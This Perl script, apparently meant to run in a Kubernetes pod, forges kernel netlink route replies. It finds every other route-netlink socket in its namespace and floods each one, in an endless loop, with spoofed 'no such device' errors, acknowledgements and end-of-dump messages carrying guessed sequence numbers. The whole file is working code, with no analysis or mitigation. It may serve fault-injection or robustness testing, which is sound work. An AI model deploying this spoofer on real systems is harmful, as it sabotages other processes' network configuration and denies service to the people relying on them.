#!/usr/bin/perl
# A pod that answers in the kernel's place: sends every netlink socket in its namespace "no such device", "done" and an
# empty dump, with the numbers that requests are likely to have, until it is killed.
use strict;
use warnings;
use Socket;

my ($AF_NETLINK, $NETLINK_ROUTE) = (16, 0);
my ($ERROR, $DONE, $ENODEV) = (2, 3, 19);

socket(my $socket, $AF_NETLINK, SOCK_RAW, $NETLINK_ROUTE) or die "socket: $!";
bind($socket, pack('SSLL', $AF_NETLINK, 0, 0, 0)) or die "bind: $!";
my ($own) = unpack('x4L', getsockname($socket));

sub message {
  my ($type, $flags, $number, $body) = @_;
  return pack('LSSLL', 16 + length $body, $type, $flags, $number, 0) . $body;
}

my $header = pack('LSSLL', 16, 18, 1, 0, 0);
$| = 1;
my $sent = 0;
while (1) {
  open(my $list, '<', '/proc/net/netlink') or die "netlink: $!";
  for (<$list>) {
    my (undef, $protocol, $port) = split;
    next unless $protocol =~ /^\d+$/ && $protocol == $NETLINK_ROUTE && $port > 0 && $port != $own;
    my $address = pack('SSLL', $AF_NETLINK, 0, $port, 0);
    for my $number (0 .. 3) {
      for my $forged (
        message($ERROR, 0x100, $number, pack('l', -$ENODEV) . $header),
        message($ERROR, 0x100, $number, pack('l', 0) . $header),
        message($DONE, 2, $number, pack('l', 0)),
      ) {
        $sent++ if defined send($socket, $forged, 0, $address);
      }
    }
  }
}
